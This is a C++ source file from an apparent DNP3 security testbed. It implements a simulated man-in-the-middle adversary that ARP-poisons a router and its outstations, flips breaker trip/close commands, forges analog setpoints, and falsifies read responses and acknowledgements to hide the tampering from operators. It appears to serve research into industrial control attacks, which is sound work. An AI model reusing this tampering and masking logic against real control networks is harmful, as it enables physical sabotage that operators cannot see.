#include "dnp3lab/mitm.hpp"

#include <fmt/format.h>

#include <algorithm>
#include <cmath>

namespace dnp3lab::mitm {

using codec::CodecError;
using codec::FunctionCode;

std::string_view to_string(PacketClass c) {
    switch (c) {
    case PacketClass::Bypass: return "BYPASS";
    case PacketClass::AnalogDo: return "ANALOG_DO";
    case PacketClass::BinaryDo: return "BINARY_DO";
    case PacketClass::ReadResponse: return "READ_RESPONSE";
    }
    return "BYPASS";
}

std::optional<PacketClass> parse_packet_class(std::string_view name) {
    for (auto c : kPacketClasses)
        if (to_string(c) == name) return c;
    return std::nullopt;
}

std::string_view to_string(MitmErrc e) {
    switch (e) {
    case MitmErrc::PointNotFound: return "PointNotFound";
    case MitmErrc::StaleDatabase: return "StaleDatabase";
    case MitmErrc::MalformedObjectBlock: return "MalformedObjectBlock";
    case MitmErrc::QueueOverflow: return "QueueOverflow";
    case MitmErrc::InvalidConfig: return "InvalidConfig";
    }
    return "?";
}

std::string_view to_string(AdversaryEventKind k) {
    switch (k) {
    case AdversaryEventKind::Poison: return "POISON";
    case AdversaryEventKind::Restore: return "RESTORE";
    case AdversaryEventKind::Tamper: return "TAMPER";
    case AdversaryEventKind::Mask: return "MASK";
    case AdversaryEventKind::Sniff: return "SNIFF";
    case AdversaryEventKind::Forge: return "FORGE";
    case AdversaryEventKind::StaleDatabase: return "STALE_DATABASE";
    case AdversaryEventKind::QueueOverflow: return "QUEUE_OVERFLOW";
    case AdversaryEventKind::Malformed: return "MALFORMED";
    }
    return "?";
}

PacketClass classify(ByteView dnp3_frame) {
    codec::Dnp3Packet packet;
    try {
        packet = codec::decode_frame(dnp3_frame);
    } catch (const CodecError&) {
        return PacketClass::Bypass;
    }
    if (packet.app.function == FunctionCode::SolicitedResponse) return PacketClass::ReadResponse;
    if (packet.app.function == FunctionCode::DirectOperate) {
        for (const auto& block : packet.app.objects) {
            if (block.type == PointType::BO) return PacketClass::BinaryDo;
            if (block.type == PointType::AO) return PacketClass::AnalogDo;
        }
    }
    return PacketClass::Bypass;
}

PacketClass classify(const net::Frame& frame, std::uint16_t dnp3_port) {
    if (frame.is_arp()) return PacketClass::Bypass;
    const auto& packet = frame.ip();
    const auto& seg = packet.segment;
    if (packet.protocol != net::Protocol::Reliable || seg.payload.empty()) return PacketClass::Bypass;
    if (seg.src_port != dnp3_port && seg.dst_port != dnp3_port) return PacketClass::Bypass;
    return classify(seg.payload);
}

sim::Duration DelayModel::sample(PacketClass c, std::mt19937_64& rng) const {
    std::uniform_real_distribution<double> u(-jitter, jitter);
    double ms = mean(c) * (1.0 + u(rng));
    auto us = static_cast<std::int64_t>(std::llround(ms * 1000.0));
    return sim::Duration(std::max<std::int64_t>(us, 1));
}

void DelayModel::validate() const {
    for (auto c : kPacketClasses) {
        if (!(mean(c) > 0.0) || !std::isfinite(mean(c)))
            throw MitmError(MitmErrc::InvalidConfig, fmt::format("delay mean for {} must be positive", to_string(c)));
    }
    if (!(jitter >= 0.0 && jitter < 1.0))
        throw MitmError(MitmErrc::InvalidConfig, "jitter fraction must be in [0, 1)");
}

// ---------------------------------------------------------------------------
// Frame-level operations

namespace {

codec::Dnp3Packet decode(ByteView frame) { return codec::decode_frame(frame); }

void write(Bytes& frame, const codec::PointLocation& loc, ByteView octets, bool recompute_crc) {
    if (recompute_crc) {
        codec::patch_user_data(frame, loc.offset, octets);
    } else {
        codec::write_user_data(frame, loc.offset, octets);
    }
}

Bytes point_octets(PointType type, std::uint8_t status, double value) {
    if (codec::is_binary(type)) return Bytes{status};
    auto f = codec::encode_float(static_cast<float>(value));
    return Bytes(f.begin(), f.end());
}

Edit edit_operate(ByteView frame, PointType type, const std::function<Bytes(const Dnp3Point&)>& replacement,
                  bool recompute_crc) {
    auto packet = decode(frame);
    auto points = codec::parse_points(packet);
    auto it = std::find_if(points.begin(), points.end(), [&](const Dnp3Point& p) { return p.type == type; });
    if (it == points.end()) {
        throw MitmError(MitmErrc::PointNotFound, fmt::format("no {} point in operate frame", codec::to_string(type)));
    }
    auto loc = codec::locate_point(packet, type, it->index);
    Edit edit;
    edit.frame.assign(frame.begin(), frame.end());
    edit.type = type;
    edit.index = it->index;
    edit.original_status = it->status;
    edit.original_value = it->value;
    edit.chunks = loc.chunks;
    write(edit.frame, loc, replacement(*it), recompute_crc);
    return edit;
}

}  // namespace

Edit modify_binary_direct_operate(ByteView frame, bool recompute_crc) {
    return edit_operate(
        frame, PointType::BO,
        [](const Dnp3Point& p) {
            return Bytes{p.status == codec::kControlClose ? codec::kControlTrip : codec::kControlClose};
        },
        recompute_crc);
}

Edit modify_analog_direct_operate(ByteView frame, float forged, bool recompute_crc) {
    return edit_operate(
        frame, PointType::AO, [&](const Dnp3Point&) { return point_octets(PointType::AO, 0, forged); },
        recompute_crc);
}

bool sniff_read_response(ByteView frame, SniffState& state) {
    codec::Dnp3Packet packet;
    try {
        packet = decode(frame);
    } catch (const CodecError& e) {
        if (e.code() == codec::Errc::MalformedObjectBlock || e.code() == codec::Errc::UnknownObjectLayout)
            throw MitmError(MitmErrc::MalformedObjectBlock, e.what());
        throw;
    }
    if (packet.app.function != FunctionCode::SolicitedResponse) return false;
    if (packet.app.objects.empty()) return false;
    auto address = packet.link.source;
    auto n = ++state.counters[address];
    if (state.stride <= 0 || n % static_cast<std::uint64_t>(state.stride) != 0) return false;
    state.database[address] = codec::parse_points(packet);
    return true;
}

Bytes modify_read_response(ByteView frame, const std::vector<Dnp3Point>& database, const std::vector<ModPoint>& mods,
                           bool recompute_crc) {
    auto packet = decode(frame);
    auto current = codec::parse_points(packet);
    Bytes out(frame.begin(), frame.end());
    for (const auto& mod : mods) {
        if (!mod.applies_to(packet.link.source)) continue;
        auto match = [&](const Dnp3Point& p) { return p.type == mod.type && p.index == mod.index; };
        auto known = std::find_if(database.begin(), database.end(), match);
        if (known == database.end()) continue;
        auto live = std::find_if(current.begin(), current.end(), match);
        if (live == current.end()) continue;
        if (live->chunks != known->chunks) {
            throw MitmError(MitmErrc::StaleDatabase,
                            fmt::format("{}[{}] moved from chunks {} to {}", codec::to_string(mod.type), mod.index,
                                        fmt::join(known->chunks, ","), fmt::join(live->chunks, ",")));
        }
        auto loc = codec::locate_point(packet, mod.type, mod.index);
        auto octets = point_octets(mod.type, static_cast<std::uint8_t>(mod.value), mod.value);
        write(out, loc, octets, recompute_crc);
    }
    return out;
}

Bytes modify_ack(ByteView frame, const StoredAck& intent, bool recompute_crc) {
    auto packet = decode(frame);
    codec::PointLocation loc;
    try {
        loc = codec::locate_point(packet, intent.type, intent.index);
    } catch (const CodecError& e) {
        throw MitmError(MitmErrc::PointNotFound, e.what());
    }
    Bytes out(frame.begin(), frame.end());
    write(out, loc, point_octets(intent.type, intent.control, intent.value), recompute_crc);
    return out;
}

// ---------------------------------------------------------------------------
// Adversary

void AdversaryConfig::validate() const {
    if (use_case < 1 || use_case > 4)
        throw MitmError(MitmErrc::InvalidConfig, fmt::format("use case {} outside 1..4", use_case));
    if (queue_limit == 0) throw MitmError(MitmErrc::InvalidConfig, "queue limit must be positive");
    if (sniff_stride <= 0) throw MitmError(MitmErrc::InvalidConfig, "sniff stride must be positive");
    if (attack_stop < attack_start) throw MitmError(MitmErrc::InvalidConfig, "attack stop precedes attack start");
    if (repoison_interval <= sim::Duration::zero())
        throw MitmError(MitmErrc::InvalidConfig, "re-poison interval must be positive");
    if (!std::isfinite(forged_setpoint)) throw MitmError(MitmErrc::InvalidConfig, "forged setpoint must be finite");
    delays.validate();
}

Adversary::Adversary(netsim::IpNode& node, Victims victims, AdversaryConfig config, std::string capture_point)
    : node_(node),
      network_(node.network()),
      victims_(std::move(victims)),
      config_(std::move(config)),
      point_(std::move(capture_point)),
      rng_(config_.seed) {
    config_.validate();
    sniff_.stride = config_.sniff_stride;
    node_.set_intercept([this](netsim::Interface& iface, const net::Frame& frame) { on_intercept(iface, frame); });
    auto& events = network_.events();
    events.schedule_at(std::max(config_.attack_start, events.now()), [this] { begin(); });
    events.schedule_at(std::max(config_.attack_stop, events.now()), [this] { restore(); });
}

bool Adversary::attacking() const {
    auto now = network_.now();
    return now >= config_.attack_start && now < config_.attack_stop;
}

std::size_t Adversary::count(AdversaryEventKind kind) const {
    return static_cast<std::size_t>(
        std::count_if(events_.begin(), events_.end(), [&](const AdversaryEvent& e) { return e.kind == kind; }));
}

void Adversary::log(AdversaryEventKind kind, std::string detail) {
    events_.push_back({network_.now(), kind, std::move(detail)});
}

void Adversary::begin() {
    if (!attacking()) return;
    std::vector<net::IpAddr> targets{victims_.router_ip};
    targets.insert(targets.end(), victims_.outstation_ips.begin(), victims_.outstation_ips.end());
    auto remaining = std::make_shared<std::size_t>(targets.size());
    for (const auto& ip : targets) {
        node_.arp_resolve(ip, [this, ip, remaining](std::optional<net::MacAddr> mac) {
            if (mac) genuine_[ip] = *mac;
            if (--*remaining == 0) poison();
        });
    }
}

void Adversary::poison() {
    if (!attacking()) return;
    auto router = genuine_.find(victims_.router_ip);
    if (router == genuine_.end()) return;
    std::size_t sent = 0;
    for (const auto& ip : victims_.outstation_ips) {
        auto os = genuine_.find(ip);
        if (os == genuine_.end()) continue;
        netsim::arp_poison(node_, router->second, victims_.router_ip, ip);
        netsim::arp_poison(node_, os->second, ip, victims_.router_ip);
        sent += 2;
    }
    log(AdversaryEventKind::Poison, fmt::format("{} spoofed replies", sent));
    auto next = network_.now() + config_.repoison_interval;
    if (next < config_.attack_stop) network_.events().schedule_at(next, [this] { poison(); });
}

void Adversary::restore() {
    auto router = genuine_.find(victims_.router_ip);
    if (router == genuine_.end()) return;
    auto announce = [this](const net::IpAddr& owner_ip, const net::MacAddr& owner_mac, const net::IpAddr& victim_ip,
                           const net::MacAddr& victim_mac) {
        auto r = node_.route(victim_ip);
        netsim::Interface& iface = r ? *r->first : node_.interface(0);
        net::ArpPacket reply;
        reply.op = net::ArpOp::Reply;
        reply.sender_mac = owner_mac;
        reply.sender_ip = owner_ip;
        reply.target_mac = victim_mac;
        reply.target_ip = victim_ip;
        node_.send_arp(iface, reply, owner_mac, victim_mac);
    };
    std::size_t sent = 0;
    for (const auto& ip : victims_.outstation_ips) {
        auto os = genuine_.find(ip);
        if (os == genuine_.end()) continue;
        announce(ip, os->second, victims_.router_ip, router->second);
        announce(victims_.router_ip, router->second, ip, os->second);
        sent += 2;
    }
    log(AdversaryEventKind::Restore, fmt::format("{} corrective replies", sent));
}

std::optional<net::MacAddr> Adversary::genuine_mac(const net::IpAddr& dst) const {
    if (auto it = genuine_.find(dst); it != genuine_.end()) return it->second;
    if (auto it = genuine_.find(victims_.router_ip); it != genuine_.end()) return it->second;
    return std::nullopt;
}

void Adversary::on_intercept(netsim::Interface& iface, const net::Frame& frame) {
    if (queue_.size() >= config_.queue_limit) {
        const auto& p = frame.ip();
        log(AdversaryEventKind::QueueOverflow,
            fmt::format("{} -> {} seq={}", p.src.to_string(), p.dst.to_string(), p.segment.seq));
        return;
    }
    queue_.push_back({&iface, frame});
    max_depth_ = std::max(max_depth_, queue_.size());
    if (!busy_) serve();
}

void Adversary::serve() {
    if (queue_.empty()) {
        busy_ = false;
        return;
    }
    busy_ = true;
    Held held = std::move(queue_.front());
    queue_.pop_front();

    auto& capture = network_.capture();
    auto pclass = classify(held.frame, capture.dnp3_port());
    auto delay = config_.delays.sample(pclass, rng_);
    std::string label(to_string(pclass));
    auto in_id = capture.record(network_.now(), point_, held.iface->name, capture::Direction::In, held.frame, label);

    net::Frame out = held.frame;
    auto& packet = out.ip();
    if (packet.protocol == net::Protocol::Reliable && !packet.segment.payload.empty() &&
        (packet.segment.src_port == capture.dnp3_port() || packet.segment.dst_port == capture.dnp3_port())) {
        packet.segment.payload = process(packet, pclass);
    }
    net::seal(packet.segment);
    out.src = held.iface->mac;
    auto dst = genuine_mac(packet.dst);

    netsim::Interface* iface = held.iface;
    network_.events().schedule_in(delay, [this, iface, out = std::move(out), dst, pclass, delay, label, in_id]() mutable {
        samples_.push_back({pclass, delay});
        if (dst) {
            out.dst = *dst;
            network_.capture().record(network_.now(), point_, iface->name, capture::Direction::Out, out, label, in_id);
            node_.emit(*iface, std::move(out));
        }
        serve();
    });
}

Bytes Adversary::process(const net::IpPacket& packet, PacketClass pclass) {
    try {
        if (packet.segment.dst_port == network_.capture().dnp3_port()) return process_command(packet, pclass);
        return process_response(packet);
    } catch (const MitmError& e) {
        log(e.code() == MitmErrc::StaleDatabase ? AdversaryEventKind::StaleDatabase : AdversaryEventKind::Malformed,
            e.what());
    } catch (const CodecError& e) {
        log(AdversaryEventKind::Malformed, e.what());
    }
    return packet.segment.payload;
}

Bytes Adversary::process_command(const net::IpPacket& packet, PacketClass pclass) {
    const auto& seg = packet.segment;
    AckKey key{packet.dst, seg.ack};
    if (pclass == PacketClass::Bypass) {
        auto decoded = codec::decode_frame(seg.payload);
        if (decoded.app.function == FunctionCode::Read) pending_reads_.insert(key);
        return seg.payload;
    }
    if (!attacking()) return seg.payload;

    std::optional<Edit> edit;
    StoredAck intent;
    if (pclass == PacketClass::BinaryDo && config_.use_case == 1) {
        edit = modify_binary_direct_operate(seg.payload, config_.recompute_crc);
        intent = {edit->type, edit->index, edit->original_status, 0.0f};
    } else if (pclass == PacketClass::AnalogDo && config_.use_case >= 2) {
        edit = modify_analog_direct_operate(seg.payload, config_.forged_setpoint, config_.recompute_crc);
        intent = {edit->type, edit->index, 0, static_cast<float>(edit->original_value)};
        if (config_.use_case == 4) {
            auto address = codec::decode_frame(seg.payload).link.destination;
            intended_[{address, edit->index}] = intent.value;
        }
    }
    if (!edit) return seg.payload;
    if (config_.masking) acks_[key] = intent;
    log(AdversaryEventKind::Tamper, fmt::format("{} {}[{}] ack={}", packet.dst.to_string(),
                                                codec::to_string(edit->type), edit->index, seg.ack));
    return std::move(edit->frame);
}

Bytes Adversary::process_response(const net::IpPacket& packet) {
    const auto& seg = packet.segment;
    AckKey key{packet.src, seg.seq};
    if (auto it = acks_.find(key); it != acks_.end()) {
        auto intent = it->second;
        acks_.erase(it);
        auto masked = modify_ack(seg.payload, intent, config_.recompute_crc);
        log(AdversaryEventKind::Mask, fmt::format("{} seq={}", packet.src.to_string(), seg.seq));
        return masked;
    }
    if (pending_reads_.erase(key) == 0) return seg.payload;
    if (!attacking() || config_.use_case < 3) return seg.payload;

    if (sniff_read_response(seg.payload, sniff_)) {
        log(AdversaryEventKind::Sniff, packet.src.to_string());
    }
    auto address = codec::decode_frame(seg.payload).link.source;
    auto db = sniff_.database.find(address);
    if (db == sniff_.database.end()) return seg.payload;

    std::vector<ModPoint> mods;
    for (const auto& m : config_.mod_points) {
        if (!m.applies_to(address)) continue;
        bool overridden = m.type == PointType::AI && intended_.count({address, m.index});
        if (!overridden) mods.push_back(m);
    }
    for (const auto& [k, value] : intended_) {
        if (k.first != address) continue;
        mods.push_back({address, PointType::AO, k.second, value});
        mods.push_back({address, PointType::AI, k.second, value});
    }
    if (mods.empty()) return seg.payload;
    auto forged = modify_read_response(seg.payload, db->second, mods, config_.recompute_crc);
    log(AdversaryEventKind::Forge, fmt::format("{} {} points", packet.src.to_string(), mods.size()));
    return forged;
}

}  // namespace dnp3lab::mitm
